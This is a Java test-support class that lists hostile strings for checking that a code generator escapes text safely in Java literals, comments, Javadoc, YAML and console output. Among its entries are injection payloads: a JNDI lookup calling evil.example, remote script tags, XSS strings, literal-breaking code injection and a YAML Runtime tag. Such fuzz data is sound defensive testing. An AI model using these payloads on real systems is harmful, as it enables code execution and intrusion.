package dev.codebook.processor;

import java.util.ArrayList;
import java.util.List;

/** Texts that try to become something else than text: in Java, in its comments, in Javadoc's HTML, in YAML, on a console. */
final class HostileTexts {

    /** The longest constant of a class file, in bytes. */
    private static final int CONSTANT = 65_535;

    private static final List<String> SHORT = List.of(
            // ends of comments, and beginnings
            "*/",
            "*/ class Evil {} /*",
            "/**",
            "**/",
            "*",
            "* /",
            "/",
            "//",
            "// }",
            "a*",
            "/* */ /* */",
            "*/*/*/",
            // unicode escapes, with backslashes of all parities
            "\\u002a\\u002f",
            "\\u002a/ class Evil {} /\\u002a",
            "*\\u002f",
            "\\\\u002a\\\\u002f",
            "\\\\\\u002a\\\\\\u002f",
            "\\\\\\\\u002a/",
            "\\uuuu002a\\uu002f",
            "\\u005cu002a\\u005cu002f",
            "\\u0022 + evil() + \\u0022",
            "\\u000a class Evil {}",
            "\\u",
            "\\uD83D",
            "C:\\users\\unit",
            "\\",
            "\\\\",
            "\\\\\\",
            "ends in a backslash \\",
            "\\n \\t \\0 \\x41 \\s \\177",
            // quotes
            "\"",
            "\"\"",
            "\"\"\"",
            "\"\"\"\"\"\"",
            "'",
            "''",
            "'''",
            "\\\"",
            "\\\\\"",
            "\"; static { System.exit(1); } String s = \"",
            "\" + System.exit(1) + \"",
            "\"), EVIL(\"",
            "`",
            "\u201C\u201D\u2018\u2019\u00AB\u00BB",
            // templates
            "${x}",
            "#{x}",
            "{{x}}",
            "$",
            "$$",
            "$L",
            "$S $T $N $W $Z",
            "$1L $2S $name:L",
            "$> $< $[ $]",
            "%s",
            "%n%d%1$s%",
            "%%",
            "{0}",
            "{",
            "}",
            "{}",
            "}}} {{{",
            "\\{x}",
            "${jndi:ldap://evil.example/x}",
            "<%= x %>",
            // HTML and Javadoc
            "</pre><script>alert(1)</script>",
            "<script src=//evil.example>",
            "<img src=x onerror=alert(1)>",
            "</li></ul></div></body></html>",
            "<!-- ",
            " -->",
            "<![CDATA[ ]]>",
            "<b>",
            "<",
            ">",
            "&",
            "&lt;&#60;&amp;&nbsp;",
            "&#42;&#47;",
            "&bogus; &#xFFFFFFF;",
            "javascript:alert(1)",
            "{@link",
            "{@link Evil#evil}",
            "{@code",
            "{@code }",
            "{@literal <b>}",
            "{@inheritDoc}",
            "{@value #EVIL}",
            "{@snippet file=x}",
            "{@",
            "@",
            "@param x at the start",
            "at a line start\n@param x\n@return evil\n@throws Evil",
            "\n * @deprecated\n */",
            "@Deprecated",
            "@deprecated",
            "user@example.com",
            "```\n</textarea>",
            "[x](javascript:alert(1)) | ![y](z)",
            // YAML
            "- a\n- b",
            "a: b # c",
            "&anchor *alias !!java.lang.Runtime",
            "---",
            "...",
            "null",
            "~",
            "no",
            "1e3",
            "0x1F",
            "? [ ] , : |",
            // lines and blanks
            "one\ntwo",
            "one\r\ntwo",
            "one\rtwo",
            "\nbegins and ends\n",
            "tab\there\t",
            " blanks around ",
            "many     blanks",
            "a\u0085b",
            "a\u2028b",
            "a\u2029b",
            "a\u000Bb\fc",
            "a\u00A0b\u2003c\u3000d",
            "\u0085",
            // what cannot be seen
            "\0",
            "NUL\0in the middle",
            "\u0001\u0002\u0003 as in a recipe of a concatenation",
            "\u0007\b\u001B[31mred\u001B[0m",
            "\u001A end of file",
            "\u007F\u0080\u009B31m",
            "\uFEFFBOM",
            "BOM at the end\uFEFF",
            "zero\u200Bwidth\u200C\u200D\u2060",
            "soft\u00ADhyphen",
            "\u202E } /* txet sdrawkcab",
            "\u2066\u2067\u2068\u2069\u202A\u202B\u202C\u202D",
            "\u200E\u200F\u061C",
            "\uFFFE\uFFFF\uFDD0",
            "\uFFF9\uFFFA\uFFFB",
            "\uFFFD",
            "\uD83D",
            "\uDE00",
            "\uDE00\uD83D",
            "half \uD83D of a pair",
            "\uDBFF\uDFFF",
            "\uDB40\uDC41 a tag",
            "\uE000 private",
            // scripts
            "Zürich, Ελληνικά, Русский",
            "שלום, سلام",
            "漢字かな交じり文",
            "İıſß",
            "e\u0301 a\u0308\u0323\u0301",
            "\u0301 begins with a mark",
            "Z" + "\u0336".repeat(200),
            "\uD83D\uDE00",
            "\uD83D\uDC69\u200D\uD83D\uDCBB \uD83C\uDDE8\uD83C\uDDED \u2764\uFE0F",
            "\uD835\uDD38\uD835\uDD39",
            // Java
            "class",
            "}; }",
            ");",
            "import java.util.*;",
            "case 1 -> ",
            "switch (x) { default: }");

    private HostileTexts() {}

    /** All of them; none is blank. */
    static List<String> all() {
        List<String> all = new ArrayList<>(SHORT);
        all.addAll(atTheEndOfAConstant());
        return List.copyOf(all);
    }

    /** They end just before, at, and behind the end of a constant, or have it in the middle of a pair. */
    private static List<String> atTheEndOfAConstant() {
        return List.of(
                "x".repeat(100_000),
                "*/ ".repeat(CONSTANT / 3),
                "\u20AC".repeat(CONSTANT / 3),
                "\u20AC".repeat(CONSTANT / 3 + 1),
                "\0".repeat(CONSTANT / 2 + 1),
                "\uD83D\uDE00".repeat(CONSTANT / 6 + 1));
    }

    /** The text in double quotes, as YAML reads it back. */
    static String quoted(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            boolean isPair = i + 1 < text.length() && Character.isSurrogatePair(c, text.charAt(i + 1));
            if (isPair) {
                quoted.append(c).append(text.charAt(++i));
            } else if (c == 0) {
                quoted.append("\\0");
            } else if (c == '"' || c == '\\') {
                quoted.append('\\').append(c);
            } else if (mustBeEscaped(c)) {
                quoted.append(String.format("\\u%04x", (int) c));
            } else {
                quoted.append(c);
            }
        }
        return quoted.append('"').toString();
    }

    private static boolean mustBeEscaped(char c) {
        boolean isSpace = c == '\u0085' || c == '\u2028' || c == '\u2029' || c == '\uFEFF';
        return isSpace || c < ' ' || c > '~' && c < '\u00A0' || Character.isSurrogate(c) || c >= '\uFFFE';
    }

    /** The text as a message that says it. */
    static String asMessage(String text) {
        return text.replace("{", "{{").replace("}", "}}");
    }
}
